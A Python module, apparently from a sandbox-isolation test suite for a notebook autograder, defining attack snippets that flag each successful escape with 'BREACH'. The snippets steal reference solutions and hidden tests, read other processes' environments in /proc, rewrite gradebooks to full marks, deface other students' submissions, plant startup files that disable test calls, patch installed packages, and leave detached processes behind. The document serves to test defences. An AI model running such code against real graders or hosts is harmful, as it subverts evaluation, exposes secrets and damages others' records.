"""Reading what is not meant for students, and touching what belongs to others."""

from attacks.bank import EXERCISES, LAB, MARK, Attack

READING, TOUCHING = "reading", "touching"

# A kernel of nbgrader's own can see the course at "../../.."; the other places are where an instructor may keep things.
LOOK = """
import os
def files(*words, places=("../../..", "/course", "/student", "/home", "/srv", "/opt", "/cache", "/tmp")):
    seen = set()
    for place in places:
        for folder, folders, names in os.walk(place):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "site-packages")]
            for name in names:
                path = os.path.join(folder, name)
                if any(word in path for word in words) and (path := os.path.realpath(path)) not in seen:
                    seen.add(path)
                    yield path
"""

TAKE_SOLUTIONS = (
    LOOK
    + f"""
import json
def take(source):
    if "### BEGIN SOLUTION" in source or "Li et al. 2016, section 3" in source:
        print("BREACH: a solution")
        exec(source, globals())
taken = []
for path in files("source/{LAB}", "solutions/l1.py"):
    try:
        text = open(path).read()
        sources = ["".join(cell["source"]) for cell in json.loads(text)["cells"]] if path.endswith("ipynb") else [text]
        for source in sources:
            if any(f"def {{name}}(" in source for name in {EXERCISES!r}):
                taken.append(source)
                take(source)
    except Exception:
        pass
"""
)

IMPORT_SOLUTIONS = """
import importlib, sys
sys.path[:0] = ["../../..", "../../../..", "/srv/course", "/course/..", *[path + "/.." for path in sys.path]]
for module in ("solutions.l1", "autograder.answers.lab3_l1_filters", "autograder.checks.hidden_lab3_l1_filters",
               "autograder.authoring.editions", "autograder.grading.judging", "autograder.checks.test_lab3_l1_filters"):
    try:
        found = importlib.import_module(module)
        print("BREACH: imported", module)
        globals().update({name: value for name, value in vars(found).items() if not name.startswith("_")})
    except ImportError:
        pass
"""

USE_TAKEN = {name: f"{name} = globals().get({name!r}, None)" for name in EXERCISES}
RUN_TAKEN = "for source in taken:\n    exec(source, globals())"

DATABASES = (
    LOOK
    + """
import sqlite3
for path in {*files("gradebook.db", ".sqlite"), "../../../gradebook.db"}:
    try:
        with sqlite3.connect(f"file:{path}?mode=rw", uri=True) as book:
            book.execute("UPDATE grade SET auto_score = 9, manual_score = 9, extra_credit = 100")
            print("BREACH: the gradebook")
    except sqlite3.Error:
        pass
"""
)

OTHERS = (
    LOOK
    + f"""
for path in files("submitted/", "autograded/", "feedback/", "judged/"):
    if "{LAB}" in path:
        print("BREACH: another's", path)
        try:
            os.chmod(path, 0o666)
            open(path, "a").write("{MARK}")
        except OSError:
            pass
"""
)

WRITABLE = """
import os, socket, ctypes
libc = ctypes.CDLL(None, use_errno=True)
places = ["/", "/tmp", "/dev/shm", "/student", "/var/tmp", "/run", "/dev", "/etc", "/cache", "/cache/minicifar", "/course",
          "/proc", "/root", os.environ.get("HOME", "/root"), "/usr/local/lib", "/opt", "/sys", "/dev/mqueue"]
"""

PLANT = (
    WRITABLE
    + f"""
for place in places:
    try:
        open(os.path.join(place, "{MARK}"), "w").write("planted")
    except OSError:
        pass
held = socket.socket(socket.AF_UNIX)
held.bind("\\0{MARK}")
held.listen()
libc.shmget(0x51AB5, 4096, 0o1666)
libc.msgget(0x51AB5, 0o1666)
libc.semget(0x51AB5, 1, 0o1666)
libc.syscall(248, b"user", b"{MARK}", b"planted", 7, -4)
os.environ["{MARK}"] = "planted"
if os.fork() == 0:
    os.setsid()
    import time
    time.sleep(600)
    os._exit(0)
"""
)

SEEK = (
    WRITABLE
    + f"""
for place in places:
    if os.path.exists(os.path.join(place, "{MARK}")):
        print("BREACH: planted in", place)
try:
    socket.socket(socket.AF_UNIX).connect("\\0{MARK}")
    print("BREACH: an abstract socket")
except OSError:
    pass
for call in ("shmget", "msgget", "semget"):
    if getattr(libc, call)(0x51AB5, *((0,) if call == "msgget" else (1, 0))) >= 0:
        print("BREACH:", call)
if libc.syscall(249, b"user", b"{MARK}", None, 0) > 0:
    print("BREACH: the keyring")
if "{MARK}" in os.environ:
    print("BREACH: the environment")
"""
)

STARTUP = f"""
import os, site, sys
code = '''
# {MARK}
import ast
class NoTests(ast.NodeTransformer):
    def visit_Expr(self, node):
        return ast.Pass() if getattr(getattr(node.value, "func", None), "id", "").startswith(("check", "test_")) else node
print("BREACH: a start-up file was run")
get_ipython().ast_transformers.append(NoTests())
'''
home = os.path.expanduser("~")
targets = [f"{{home}}/.ipython/profile_default/startup/00-{MARK}.py", f"{{home}}/.jupyter/jupyter_config.py",
           "/etc/ipython/startup/00-{MARK}.py", f"{{home}}/.pythonrc.py", "/tmp/sitecustomize.py"]
for folder in [*sys.path, *site.getsitepackages(), site.getusersitepackages()]:
    targets += [f"{{folder}}/usercustomize.py", f"{{folder}}/zz-{MARK}.pth"]
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        open(target, "x").write(code if target.endswith(".py") else "import usercustomize # {MARK}")
    except OSError:
        pass
"""

ATTACKS = [
    Attack(
        "solutions-on-disk",
        READING,
        "every folder is searched for the source edition and the reference answers, which are then used",
        first=TAKE_SOLUTIONS,
        last=RUN_TAKEN,
        cells={"greedy_l1_norms": RUN_TAKEN, **dict.fromkeys(EXERCISES[:5], RUN_TAKEN)},
    ),
    Attack(
        "import-the-reference",
        READING,
        "the reference, the hidden tests and the grader's own modules are imported, from wherever they may lie",
        first=IMPORT_SOLUTIONS,
        cells=USE_TAKEN,
    ),
    Attack(
        "hidden-tests-on-disk",
        READING,
        "all files, also those of installed packages, are searched for hidden tests, mark schemes and wrong answers",
        first=LOOK
        + """
words = ("hidden_lab", "answers/lab", "autograder/checks", "autograder/engine", "autograder/judging", "thresholds.py")
for path in files(*words, places=("/",)):
    if "checks/test_" not in path or "autograder" in path:
        print("BREACH:", path)
for place in __import__("site").getsitepackages():
    for name in ("solutions", "labs", "autograder"):
        if os.path.isdir(os.path.join(place, name)) and os.listdir(os.path.join(place, name)):
            print("BREACH:", place, name)
""",
        stock=False,
    ),
    Attack(
        "secrets-in-memory",
        READING,
        "objects, frames, sources and the process's own memory are searched for tests and expected values",
        first="""
import gc, inspect, sys
for name, module in list(sys.modules.items()):
    if name.startswith(("solutions", "autograder.checks", "autograder.answers", "hidden_", "autograder.grading.judging")):
        print("BREACH: module", name)
for value in gc.get_objects():
    if inspect.isfunction(value) and (value.__module__ or "").startswith(("solutions", "hidden_")):
        print("BREACH: function", value.__qualname__)
word = ("BEGIN " + "MARK SCHEME").encode()
for path in ("/proc/self/mem", "/dev/mem", "/proc/kcore", "/dev/kmem"):
    try:
        with open(path, "rb") as memory:
            memory.seek(id(gc))
            memory.read(64)
        print("BREACH: memory through", path)
    except OSError:
        pass
""",
        stock=False,
    ),
    Attack(
        "other-processes",
        READING,
        "environment, command lines and open files of all processes are read in /proc",
        first="""
import os, glob
for path in glob.glob("/proc/[0-9]*/*"):
    pid = path.split("/")[2]
    if pid not in ("self", str(os.getpid())) and path.endswith(("environ", "cmdline", "maps", "cwd", "root")):
        try:
            text = os.readlink(path) if path.endswith(("cwd", "root")) else open(path, "rb").read()
            if text:
                print("BREACH:", path)
        except OSError:
            pass
if any("SECRET" in name or "TOKEN" in name or "KEY" in name for name in os.environ):
    print("BREACH: the environment")
""",
        stock=False,
    ),
    Attack(
        "others-submissions",
        READING,
        "the other students' folders are looked for, read, and written to",
        first=OTHERS,
    ),
    Attack(
        "gradebook-edited",
        TOUCHING,
        "every gradebook within reach is given full points for everybody",
        first=DATABASES,
    ),
    Attack(
        "gradebook-edited-later",
        TOUCHING,
        "a child process that has left its session waits, and edits the gradebook when grading is done",
        first=f"""
import ctypes, os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"{MARK}", 0, 0, 0)
        import time
        for second in range(20):
            time.sleep(1)
            try:
                exec({DATABASES!r})
            except BaseException:
                pass
        time.sleep(600)
    os._exit(0)
""",
        alone=True,
    ),
    Attack(
        "start-up-files",
        TOUCHING,
        "files that IPython and Python run at their start are left for the next student's kernel",
        first=STARTUP,
    ),
    Attack(
        "patched-packages",
        TOUCHING,
        "installed packages, their bytecode and the course's own are changed on disk",
        first=f"""
import importlib, os, pathlib
for name in ("torch", "course_utils.expect", "course_utils", "minicifar", "json", "autograder.sandbox.kernel", "autograder", "IPython"):
    try:
        module = importlib.import_module(name)
    except ImportError:
        continue
    for path in [module.__file__, *map(str, pathlib.Path(module.__file__).parent.glob("__pycache__/__init__*.pyc"))]:
        try:
            os.chmod(path, 0o666)
            with open(path, "a") as file:
                file.write("# {MARK}")
            print("BREACH: changed", path)
        except OSError:
            pass
""",
        stock=False,
    ),
    Attack(
        "plant-1",
        TOUCHING,
        "something is left in every place that another process could look at",
        first=PLANT,
    ),
    Attack("plant-2-seek", TOUCHING, "what an earlier submission has left is looked for", first=SEEK, alone=True),
    Attack(
        "images-poisoned",
        TOUCHING,
        "the cached images, the measured baseline and the course's thresholds are changed",
        first=f"""
import glob, os
for path in [*glob.glob("/cache/**", recursive=True), *glob.glob(os.path.expanduser("~/.cache/*/*")),
             "/course/course_utils/thresholds.json"]:
    for how in ("r+b", "ab"):
        try:
            with open(path, how) as file:
                file.write(b"{MARK}")
            print("BREACH: changed", path)
        except OSError:
            pass
    try:
        os.rename(path, path + "{MARK}")
        print("BREACH: renamed", path)
    except OSError:
        pass
""",
        stock=False,
    ),
]
